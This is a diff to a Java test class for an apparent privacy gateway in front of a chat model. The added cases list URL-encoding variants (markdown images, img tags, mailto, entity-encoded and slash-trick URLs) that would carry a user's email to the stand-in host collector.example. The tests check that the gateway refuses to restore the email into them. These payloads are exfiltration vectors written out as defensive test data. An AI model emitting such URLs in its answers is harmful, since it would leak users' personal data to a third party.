@@ -451,13 +451,28 @@ class ChannelAttackTest {
                 "<img src=\"\\\\collector.example/c?e=[EMAIL_1]\">",
                 "![a](http:collector.example/c?e=[EMAIL_1])", // a special scheme needs no slashes
                 "![a](https://collector.example/c?e=([EMAIL_1]))",
-                "![a](HTTPS://collector.example/c?e=[EMAIL_1])"
+                "![a](HTTPS://collector.example/c?e=[EMAIL_1])",
+                "[mail me](mailto:x@collector.example?body=[EMAIL_1])",
+                "(www.collector.example/?q=[EMAIL_1])",
+                "<img src=\"https&colon;&sol;&sol;collector.example/c?e=[EMAIL_1]\">",
+                "<img src=\"/\\collector.example/c?e=[EMAIL_1]\">"
             })
     void aValueIsNotRestoredIntoAUrlHoweverTheUrlIsWritten(String url) {
         gdpr();
         answer("Done: " + url);
         ChatResponse r = gate.chat(request().user("Email me at " + EMAIL).build());
         assertThat(r.text()).as(url).doesNotContain(EMAIL).contains("[EMAIL_1]");
+    }
+
+    @Test
+    void aValueAfterAnEscapedLineBreakInAJsonAnswerIsRestored() throws Exception {
+        gdpr();
+        answer("{\"reply\":\"Contact:\\n[EMAIL_1]\"}");
+        ChatResponse r = gate.chat(request()
+                .user("Email me at " + EMAIL)
+                .responseFormat(ResponseFormat.jsonObject())
+                .build());
+        assertThat(JSON.readTree(r.text()).get("reply").textValue()).isEqualTo("Contact:\n" + EMAIL);
     }
 
     @Test
